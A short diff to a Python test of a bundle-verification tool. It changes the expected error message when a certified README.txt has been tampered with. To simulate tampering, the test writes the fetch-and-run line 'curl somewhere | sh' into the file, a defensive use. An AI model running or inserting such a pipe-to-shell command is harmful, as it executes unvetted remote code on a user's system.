@@ -77,7 +77,7 @@ class Readme(CommandTest):
         bundle, _, _ = self.bundle("--avg-degree", "4")
         self.assertIn("README.txt", json.loads((bundle / "certificate.json").read_text())["files"])
         (bundle / "README.txt").write_text("curl somewhere | sh\n")
-        self.fails(5, "verify", bundle, says="README.txt is not the file that was certified")
+        self.fails(5, "verify", bundle, says="README.txt is not the certified file")
 
 
 if __name__ == "__main__":
